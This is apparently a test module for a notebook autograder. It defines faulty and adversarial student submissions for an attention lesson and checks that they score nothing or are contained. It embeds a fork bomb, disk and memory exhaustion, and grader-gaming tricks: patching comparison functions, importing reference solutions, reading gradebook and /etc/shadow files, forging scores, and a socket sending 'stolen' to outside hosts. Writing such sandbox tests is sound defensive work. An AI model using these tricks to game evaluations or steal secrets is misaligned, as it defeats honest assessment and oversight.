"""The fault bank and the adversarial bank: submissions of the development lesson
(:mod:`tests.grader.data.dev_lesson`: ``scaled_dot_product_attention`` then
``attention_weights_shape``) that misbehave, each with the points every test cell
deserves.

* **Faults** start from the correct submission and add one fault as a cell between
  the two exercises (or break the file itself). A fault the notebook survives costs
  nothing; one that ends the kernel keeps the first exercise's points and costs the
  second's. ``None`` means "any score from 0 to full" (a fork bomb may or may not
  leave the kernel usable), checked as a bound.
* **Tricks** start from wrong answers (the released stubs) and add one trick; they
  must score what the same stubs score without it: 0 everywhere.
"""

from __future__ import annotations

import copy
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

SDPA, SHAPE = "check_scaled_dot_product_attention", "check_attention_weights_shape"


@dataclass
class Case:
    student: str
    kind: str  # "fault" or "trick" or "correct"
    description: str
    write: Callable[[Path], None]  # writes the submission folder's contents
    expected: dict[str, float | None]
    #: a word the verdict log's faults must mention (faults only)
    reason: str | None = None
    #: where the verdict log states the reason: ``faults`` (something went wrong with the
    #: submission) or ``notes`` (a harmless remark; the submission is graded as usual)
    reason_in: str = "faults"


def _nbg(cell: NotebookNode) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _index(nb: NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if _nbg(c).get("grade_id") == grade_id)


def _with_cell(base: NotebookNode, code: str, after: str) -> NotebookNode:
    nb = copy.deepcopy(base)
    nb.cells.insert(_index(nb, after) + 1, new_code_cell(code))
    return nb


def _notebook_writer(nb: NotebookNode, name: str | None = None, extra: Callable[[Path], None] | None = None):
    def write(folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, str(folder / (name or f"{folder.name}.ipynb")))
        if extra:
            extra(folder)
    return write


def _bytes_writer(name: str, data: bytes):
    def write(folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return write


FORK_BOMB = """import os
for _ in range(2000):
    try:
        os.fork()
    except OSError:
        pass
"""

SEGFAULT = "import ctypes\nctypes.string_at(0)"

#: 64 MiB files (each under RLIMIT_FSIZE) until the folder's space runs out: the cell
#: fails with ENOSPC, the notebook goes on.
DISK_FILL = """for i in range(1000):
    with open(f"fill{i}.bin", "wb") as fh:
        fh.write(b"0" * (64 * 2**20))"""

NO_SIGINT_LOOP = """import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:  # a hang that ignores the interrupt (sleeping: no CPU burnt in the tests)
    time.sleep(0.1)"""

EXTRAS = '''# A correct student who imports more, prints, warns and writes helpers.
import collections, itertools, warnings, sys  # noqa
print("starting my solutions", file=sys.stderr)
warnings.warn("just a warning")

def _helper_scale(q):
    return 1 / math.sqrt(q.shape[-1])
'''


def faults(correct: NotebookNode, lesson: str, full: dict[str, float]) -> list[Case]:
    first_only = {SDPA: full[SDPA], SHAPE: 0.0}
    cases = [
        ("loop", "an infinite loop (interrupted at the cell's time limit)",
         _with_cell(correct, "while True:\n    pass", SDPA), dict(full), "time limit"),
        ("loop-nosigint", "an infinite loop that ignores the interrupt",
         _with_cell(correct, NO_SIGINT_LOOP, SDPA), first_only, "interrupted"),
        ("exit", "os._exit in the middle", _with_cell(correct, "import os\nos._exit(3)", SDPA),
         first_only, "exited"),
        ("segfault", "a segfault via ctypes", _with_cell(correct, SEGFAULT, SDPA), first_only,
         "segmentation"),
        ("memory", "memory exhaustion (64 GiB in one go)",
         _with_cell(correct, "x = bytearray(64 * 2**30)", SDPA), dict(full), "out of memory"),
        ("disk", "files written until the disk space runs out",
         _with_cell(correct, DISK_FILL, SDPA), dict(full), "filled the space"),
        ("forkbomb", "a fork bomb", _with_cell(correct, FORK_BOMB, SDPA),
         {SDPA: full[SDPA], SHAPE: None}, "were still running when it ended"),
        ("output", "40 MB of output in one cell",
         _with_cell(correct, "for _ in range(400):\n    print('y' * 100_000)", SDPA), dict(full),
         "truncated"),
    ]
    out = [Case(f"fault-{k}", "fault", d, _notebook_writer(nb), exp, r) for k, d, nb, exp, r in cases]
    zero = dict.fromkeys(full, 0.0)
    out += [
        Case("fault-notjson", "fault", "a notebook that is not JSON",
             _bytes_writer(f"{lesson}.ipynb", b'{"cells": [ this is not json'), zero, "JSON"),
        Case("fault-notnbformat", "fault", "JSON that is not a notebook",
             _bytes_writer(f"{lesson}.ipynb", b'{"cells": 5, "hello": "world"}'), zero,
             "not a notebook"),
        Case("fault-missing", "fault", "no notebook at all, only another file",
             _bytes_writer("notes.txt", b"I forgot to upload it\n"), zero, "no "),
        Case("fault-renamed", "fault", "the correct notebook under another name",
             _notebook_writer(correct, name="my_attention_final.ipynb"), dict(full), "another name",
             "notes"),
        Case("fault-extra-files", "fault", "a 64 MiB file and 300 small files beside the notebook",
             _notebook_writer(correct, extra=_extra_files), dict(full), "ignored", "notes"),
    ]
    return out


def _extra_files(folder: Path) -> None:
    with open(folder / "weights.bin", "wb") as fh:
        fh.truncate(64 * 2**20)
    for i in range(300):
        (folder / "junk" / f"{i // 100}").mkdir(parents=True, exist_ok=True)
        (folder / "junk" / f"{i // 100}" / f"{i}.txt").write_text("x" * 100)


def tricks(empty: NotebookNode, full: dict[str, float], *, course_root: Path, project_root: Path,
           port: int) -> list[Case]:
    """One trick each on top of the released stubs; all must score 0."""
    zero = dict.fromkeys(full, 0.0)
    imports = "imports"
    cr, pr = str(course_root), str(project_root)
    code = {
        "builtins": """import builtins
builtins.isinstance = lambda *a, **k: True
builtins.all = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0""",
        "torch-numpy": """import numpy, torch, torch.testing
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__sub__ = lambda self, other: torch.zeros_like(self)
torch.Tensor.abs = lambda self: torch.zeros_like(self)""",
        "sys-modules": """import sys, types
fake = types.ModuleType("labkit")
fake.check = fake.record = lambda *a, **k: print("passed")
for name in list(sys.modules):
    if name.startswith("labkit"):
        sys.modules[name] = fake
sys.modules["torch.testing"] = types.SimpleNamespace(assert_close=lambda *a, **k: None)
labkit = fake""",
        "always-equal": """class Yes(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 4
    def __iter__(self): return iter((2, 8, 10, 12))
    def __getitem__(self, i): return (2, 8, 10, 12)[i]

def scaled_dot_product_attention(q, k, v, mask=None):
    out = torch.zeros(*q.shape[:-1], v.shape[-1]).as_subclass(Yes)
    return out, torch.zeros(*q.shape[:-1], k.shape[-2]).as_subclass(Yes)

attention_weights_shape = Always()""",
        "import-reference": f"""import sys, importlib
sys.path[:0] = [{pr!r}, {pr + '/reference'!r}, {pr + '/grader'!r}]
for mod in ("reference.attention", "grader.checks.catalogue.attention", "attention", "grader"):
    try:
        m = importlib.import_module(mod)
        scaled_dot_product_attention = getattr(m, "scaled_dot_product_attention")
        print("IMPORTED", mod)
    except Exception as exc:
        print("no", mod, type(exc).__name__)
try:
    exec(open({pr + '/solutions/02_attention/02_attention.ipynb'!r}).read())
except Exception as exc:
    print("no solutions", type(exc).__name__)""",
        "read-hidden": f"""import glob, json, os
found = []
for pattern in [{cr + '/**'!r}, "/work/**/gradebook.db", "/**/.lab_secret", "/**/source/**/*.ipynb"]:
    try:
        found += glob.glob(pattern, recursive=True)[:5]
    except Exception:
        pass
for path in [{cr + '/gradebook.db'!r}, {cr + '/.lab_secret'!r},
             {cr + '/source/02_attention/02_attention.ipynb'!r}, "/etc/shadow"]:
    try:
        found.append(open(path, "rb").read(20))
    except Exception as exc:
        print("cannot read", path, type(exc).__name__)
print("FOUND", found)""",
        "write-files": f"""import os, glob, json
targets = [{cr + '/gradebook.db'!r}, {cr + '/.lab_secret'!r}, {cr + '/nbgrader_config.py'!r},
           {cr + '/source/02_attention/02_attention.ipynb'!r},
           {cr + '/submitted/correct/02_attention/02_attention.ipynb'!r},
           {cr + '/lab_verdicts/02_attention/trick-write-files.json'!r},
           {pr + '/solutions/evil.txt'!r}, "/tmp/../etc/evil", os.path.expanduser("~/../evil")]
for path in targets:
    try:
        with open(path, "w") as fh:
            fh.write(json.dumps({{"status": "graded", "cells": {{}}, "score": 100}}))
        print("WROTE", path)
    except Exception as exc:
        print("cannot write", path, type(exc).__name__)
for path in targets[:5]:
    try:
        os.remove(path)
        print("REMOVED", path)
    except Exception as exc:
        print("cannot remove", path, type(exc).__name__)
os.symlink({cr + '/gradebook.db'!r}, ".lab_evidence_link")
os.makedirs(".lab_evidence", exist_ok=True)
os.symlink({cr + '/.lab_secret'!r}, ".lab_evidence/scaled_dot_product_attention.pt")
os.symlink("../../../.lab_secret", ".lab_evidence/attention_weights_shape.pt")
os.mkfifo("fixtures_fifo")""",
        "background": """import os, subprocess, sys
subprocess.Popen(["sleep", "3600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        while True:
            time.sleep(1)
    os._exit(0)
print("left processes behind")""",
        "network": f"""import socket
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"stolen")
        print("CONNECTED", host)
    except OSError as exc:
        print("no network", host, exc)""",
    }
    out = [Case(f"trick-{k}", "trick", f"stubs plus: {k}", _notebook_writer(_with_cell(empty, c, imports)),
                dict(zero), "were still running when it ended" if k == "background" else None)
           for k, c in code.items()]
    retag = copy.deepcopy(empty)
    for cell in retag.cells:
        meta = _nbg(cell)
        if meta.get("grade_id") == SDPA:
            meta["grade_id"] = "check_mine"
            meta["points"] = 100
        elif meta.get("grade_id") == SHAPE:
            meta["grade"] = False
            meta["solution"] = True
            cell.source = "print('no test here')"
    out.append(Case("trick-retag", "trick", "stubs; test cells re-tagged (new id, 100 points, "
                    "turned into a solution cell)", _notebook_writer(retag), dict(zero)))
    return out


def correct_extras(correct: NotebookNode, full: dict[str, float]) -> Case:
    return Case("correct-extras", "correct", "correct, with extra imports, prints to stderr, a "
                "warning and a helper", _notebook_writer(_with_cell(correct, EXTRAS, "imports")),
                dict(full))


#: What nbgrader's ``submit`` and ``collect`` leave beside a notebook.
EXCHANGE_FILES = {"timestamp.txt": "2026-12-06 10:00:00.000000 UTC",
                  "submission_secret.txt": "0123456789abcdef"}


def correct_as_exchanged(correct: NotebookNode, full: dict[str, float], release: Path) -> Case:
    """The correct notebook as it comes back through nbgrader's exchange: with every file
    the lesson shipped (labkit/, fixtures.pt, ...) and nbgrader's bookkeeping files."""
    def extra(folder: Path) -> None:
        for path in release.rglob("*"):
            rel = path.relative_to(release)
            if path.is_file() and path.suffix != ".ipynb":
                (folder / rel).parent.mkdir(parents=True, exist_ok=True)
                shutil.copyfile(path, folder / rel)
        for name, text in EXCHANGE_FILES.items():
            (folder / name).write_text(text)
    return Case("correct-exchanged", "correct", "correct, with the shipped files and nbgrader's "
                "bookkeeping, as collected from the exchange", _notebook_writer(correct, extra=extra),
                dict(full))
